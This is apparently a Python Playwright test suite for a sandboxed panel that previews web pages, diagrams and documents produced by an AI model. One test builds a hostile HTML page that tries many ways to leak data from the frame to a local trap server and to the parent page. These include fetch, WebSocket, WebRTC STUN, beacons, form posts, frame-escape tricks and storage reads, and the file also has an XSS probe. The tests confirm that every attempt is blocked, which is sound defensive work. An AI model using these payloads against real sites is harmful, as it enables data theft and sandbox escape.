"""The panel with what a model made: a web page, a drawing, a diagram, a document. Nothing in it reaches the
page, its storage, or anybody on a network."""

import socket
import threading
from collections.abc import Generator
from contextlib import contextmanager
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from tests.running import Running, gateway_process
from tests.ui.axe import findings
from tests.ui.page import TIMEOUT_MS, ask, in_a_browser, opened
from tests.ui.states import saying

pytestmark = in_a_browser

SETTLED_MS = 1500
"""What has not left by then: a request is begun within a few milliseconds, or not at all."""


class Trap:
    """A server of somebody else, which notes who connects to it."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self._packets = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._packets.bind(self._socket.getsockname())
        self.place = f"127.0.0.1:{self._socket.getsockname()[1]}"
        self.url = f"http://{self.place}"
        threading.Thread(target=self._listen, daemon=True).start()
        threading.Thread(target=self._receive, daemon=True).start()

    def _receive(self) -> None:
        while True:
            try:
                self._packets.recv(200)
            except OSError:
                return
            self.heard.append("a packet")

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(1)
                try:
                    first = connection.recv(200)
                except TimeoutError:
                    first = b""
                self.heard.append(first.partition(b"\r\n")[0].decode(errors="replace") or "a connection")

    def close(self) -> None:
        for each in (self._socket, self._packets):
            each.close()


@contextmanager
def trapping() -> Generator[Trap]:
    trap = Trap()
    try:
        yield trap
    finally:
        trap.close()


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Generator[Running]:
    """`gateway dev` with the demo model."""
    with gateway_process(tmp_path_factory.mktemp("preview")) as gateway:
        yield gateway


@pytest.fixture
def alone(browser: Browser, running: Running) -> Generator[Page]:
    """The page for what is refused by a policy, which is a fault elsewhere."""
    with browser.new_context() as context:
        page = context.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        page.goto(running.url)
        yield page


@pytest.fixture(scope="module")
def tab(browser: Browser, running: Running) -> Generator[Page]:
    with opened(browser, running.url) as page:
        yield page


def show(page: Page, language: str, code: str) -> None:
    """Has the model answer with a block of code, and looks at it."""
    buttons = page.get_by_role("button", name="Preview of")
    count = buttons.count()
    ask(page, saying(f"Here it is:\n\n```{language}\n{code}\n```"))
    expect(page.locator("#stop")).to_have_count(0)
    expect(buttons).to_have_count(count + 1)
    buttons.last.click()
    expect(page.get_by_role("complementary")).to_be_visible()


def shown_in(page: Page) -> Frame:
    """The frame in which the document runs: the one within the one that the gateway serves."""
    page.wait_for_function("() => window.frames.length === 1")
    while not (outer := [frame for frame in page.frames if frame.url.endswith("/preview.html")]):
        page.wait_for_timeout(20)
    while not outer[0].child_frames:
        page.wait_for_timeout(20)
    inner = outer[0].child_frames[0]
    inner.wait_for_function("() => document.readyState === 'complete' && document.body.innerHTML !== ''")
    return inner


def test_a_web_page_runs_as_it_is(page: Page) -> None:
    """Its scripts and styles work; its links do not lead the frame away."""
    show(
        page,
        "html",
        '<!doctype html><style>p { color: rgb(1, 2, 3) }</style><p id="said">no</p>'
        '<a href="https://example.org/">away</a> <a href="#said">up</a>'
        "<script>document.getElementById('said').textContent = 'yes ' + document.compatMode</script>",
    )
    inner = shown_in(page)
    expect(inner.locator("#said")).to_have_text("yes CSS1Compat")
    expect(inner.locator("#said")).to_have_css("color", "rgb(1, 2, 3)")
    for link in ("away", "up"):
        inner.get_by_role("link", name=link).click()
    expect(inner.locator("#said")).to_have_text("yes CSS1Compat")


def test_a_drawing_a_diagram_and_a_document_are_shown(page: Page) -> None:
    """A diagram that has a fault says where it is."""
    show(page, "svg", '<svg viewBox="0 0 9 9" width="90"><circle cx="4" cy="4" r="4" fill="red"/></svg>')
    expect(shown_in(page).locator("svg circle")).to_be_visible()
    show(page, "mermaid", "graph TD; A[Roses] --> B[Water </script><b>]")
    expect(shown_in(page).locator("svg#diagram")).to_contain_text("Roses")
    show(page, "mermaid", "graph TD; A -->")
    expect(shown_in(page).get_by_role("alert")).to_contain_text("This diagram cannot be drawn")
    show(page, "markdown", "# Roses\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<img src=x onerror=alert(1)>")
    panel = page.get_by_role("complementary")
    expect(panel.get_by_role("heading", name="Roses")).to_be_visible()
    expect(panel.locator("table")).to_be_visible()
    expect(panel.locator("iframe")).to_have_count(0)
    expect(panel.locator("img")).to_have_count(0)


def attempts(place: str, gateway: str) -> str:
    """A page that tries each way out that there is to the server at `place`, and to the gateway."""
    trap = f"http://{place}"
    tries = {
        "fetch": f"await fetch('{trap}/fetch')",
        "own fetch": f"await fetch('{gateway}/api/sessions')",
        "xhr": f"const x = new XMLHttpRequest(); x.open('GET', '{trap}/xhr', false); x.send()",
        "beacon": f"navigator.sendBeacon('{trap}/beacon', 'x'); throw 0",  # true, whatever becomes of it
        "websocket": f"const s = new WebSocket('{trap.replace('http', 'ws')}'); "
        "await new Promise((yes, no) => { s.onopen = yes; s.onerror = no })",
        "event source": f"const e = new EventSource('{trap}/events'); "
        "await new Promise((yes, no) => { e.onopen = yes; e.onerror = no })",
        "image": f"await new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = no; "
        f"i.src = '{trap}/image' }})",
        "script": "await new Promise((yes, no) => { const s = document.createElement('script'); "
        f"s.onload = yes; s.onerror = no; s.src = '{trap}/script'; document.body.append(s) }})",
        "worker": "const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); "
        "await new Promise((yes, no) => { w.onmessage = yes; w.onerror = no })",
        "service worker": "await navigator.serviceWorker.register('/service-worker.js')",
        "cookies": "document.cookie",
        "local storage": "localStorage.length",
        "session storage": "sessionStorage.length",
        "database": "await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; "
        "r.onerror = no })",
        "parent": "parent.document.title",
        "top": "top.document.title",
        "popup": f"if (open('{trap}/popup') === null) throw 0",
        "top navigation": f"top.location = '{trap}/top'",
        "eval of the parent": "parent.eval('1')",
    }
    run = "\n".join(
        f"try {{ await (async () => {{ {code} }})(); reached.push('{name}') }} catch {{}}"
        for name, code in tries.items()
    )
    return f"""
<link rel="preconnect" href="{trap}"><link rel="dns-prefetch" href="{trap}">
<link rel="prefetch" href="{trap}/prefetch"><link rel="stylesheet" href="{trap}/sheet">
<link rel="icon" href="{trap}/icon"><link rel="manifest" href="{trap}/manifest">
<style>@import "{trap}/import"; @font-face {{ font-family: f; src: url({trap}/font) }}
body {{ font-family: f; background: url({trap}/background) }}</style>
<base href="{trap}/"><img src="{trap}/img" srcset="{trap}/set 2x"><iframe src="{trap}/frame"></iframe>
<iframe src="{gateway}/"></iframe><object data="{trap}/object"></object><embed src="{trap}/embed">
<video src="{trap}/video" poster="{trap}/poster" autoplay></video><audio src="{trap}/audio" autoplay></audio>
<div><template shadowrootmode="closed"><iframe srcdoc="<script>new RTCPeerConnection({{
iceServers: [{{ urls: 'stun:{place}' }}] }}).createDataChannel('x')</script>"></iframe></template></div>
<form id="form" action="{trap}/form" method="post"><input name="x" value="1"></form>
<a id="ping" href="#" ping="{trap}/ping">x</a><svg><image href="{trap}/svg"/><use href="{trap}/use#x"/></svg>
<script>
const reached = [];
(async () => {{
{run}
form.submit(); ping.click();
const packets = `try {{
  const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{place}" }}] }});
  peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
}} catch {{}}`;
const inner = "<script>" + packets + "</scr" + "ipt>";
try {{ (0, eval)(packets) }} catch {{}}
const script = document.createElement("script"); script.textContent = packets; document.body.append(script);
const root = document.body.appendChild(document.createElement("div")).attachShadow({{ mode: "closed" }});
for (const host of [document.body, root]) {{
  const frame = document.createElement("iframe"); frame.srcdoc = inner; host.append(frame);
}}
document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc='" + inner + "'></iframe>");
const hidden = "<template shadow" + "rootmode=closed><iframe srcdoc='" + inner + "'></iframe></template>";
document.write("<div>" + hidden + "</div>");
top.postMessage("<script>1</scr" + "ipt>", "*"); parent.postMessage("<b id=replaced>replaced</b>", "*");
document.title = "over";
}})();
</script>"""


def test_nothing_in_the_frame_reaches_anything(alone: Page, running: Running) -> None:
    """Neither by a request of any kind nor by what the page keeps."""
    alone.evaluate("localStorage.setItem('gateway.secret', '1')")
    with trapping() as trap:
        ask(alone, "/say before")
        show(alone, "html", attempts(trap.place, running.url))
        inner = shown_in(alone)
        inner.wait_for_function("() => document.title === 'over'")
        assert inner.evaluate("reached") == []
        alone.wait_for_timeout(SETTLED_MS)
        assert trap.heard == []
        assert inner.evaluate("self.origin") == "null"
        assert alone.locator("#replaced").count() == 0
        expect(inner.locator("#replaced")).to_have_count(0)
        expect(alone.get_by_text("before").first).to_be_visible()
        assert alone.url.startswith(running.url)
    alone.evaluate("localStorage.removeItem('gateway.secret')")


@pytest.mark.parametrize(
    "leave",
    [
        "location = '{}'",
        "location.replace('{}')",
        "document.body.innerHTML = '<meta http-equiv=refresh content=\"0;url={}\">'",
    ],
    ids=["assigned", "replaced", "refreshed"],
)
@pytest.mark.parametrize("where", ["elsewhere", "to the gateway"])
def test_the_frame_does_not_leave(alone: Page, running: Running, leave: str, where: str) -> None:
    """A frame that goes to an address tells it what the address has in it."""
    asked: list[str] = []
    with trapping() as trap:
        goal = f"{trap.url}/?secret" if where == "elsewhere" else f"{running.url}/?secret"
        alone.on("requestfinished", lambda request: asked.append(request.url))
        show(alone, "html", f"<p>here</p><script>setTimeout(() => {{ {leave.format(goal)} }}, 50)</script>")
        alone.wait_for_timeout(SETTLED_MS)
        assert trap.heard == []
        assert [url for url in asked if "secret" in url] == []


def test_the_address_of_the_frame_by_itself_has_no_origin_either(page: Page, running: Running) -> None:
    """Whoever opens it is shown nothing."""
    page.goto(f"{running.url}/preview.html")
    assert page.evaluate("self.origin") == "null"
    page.goto(running.url)


def test_the_panel_has_the_source_and_the_file_and_gives_the_focus_back(page: Page, tmp_path: Path) -> None:
    """By keys alone; its edge too."""
    show(page, "html", "<p>roses</p>")
    panel = page.get_by_role("complementary")
    expect(panel).to_be_focused()
    panel.get_by_role("button", name="Source").press("Enter")
    expect(panel.locator("pre")).to_have_text("<p>roses</p>")
    with page.expect_download() as download:
        panel.get_by_role("button", name="Download").click()
    assert download.value.suggested_filename == "Web page.html"
    download.value.save_as(tmp_path / "saved")
    assert (tmp_path / "saved").read_text() == "<p>roses</p>"
    edge = panel.get_by_role("separator")
    before = panel.bounding_box()
    edge.press("ArrowLeft")
    after = panel.bounding_box()
    assert before is not None
    assert after is not None
    assert after["width"] == before["width"] + 32
    panel.get_by_role("button", name="Source").press("Escape")
    expect(panel).to_have_count(0)
    expect(page.get_by_role("button", name="Preview of").last).to_be_focused()


@pytest.mark.parametrize("theme", ["light", "dark"])
@pytest.mark.parametrize("width", [390, 1280])
def test_the_panel_has_no_barriers(page: Page, theme: str, width: int) -> None:
    """On a phone it has the whole screen."""
    page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
    show(page, "markdown", "# Roses\n\nWater them.")
    page.set_viewport_size({"width": width, "height": 800})
    assert findings(page) == []
    box = page.get_by_role("complementary").bounding_box()
    assert box is not None
    assert box["width"] == 390 if width == 390 else box["width"] < 900
    page.emulate_media(color_scheme="light")
